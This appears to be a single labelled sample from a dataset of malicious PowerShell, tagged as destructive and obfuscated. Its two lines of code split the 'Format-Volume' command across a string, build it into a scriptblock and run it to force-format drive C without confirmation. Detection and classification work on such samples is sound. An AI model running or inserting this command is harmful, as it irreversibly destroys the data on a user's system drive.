# description: Builds Format-Volume from a string with [scriptblock]::Create and invokes it.
# family: destruction
# obfuscated: yes
$sb = [scriptblock]::Create('Format-' + 'Volume -DriveLetter C -Force -Confirm:$false')
$sb.Invoke()
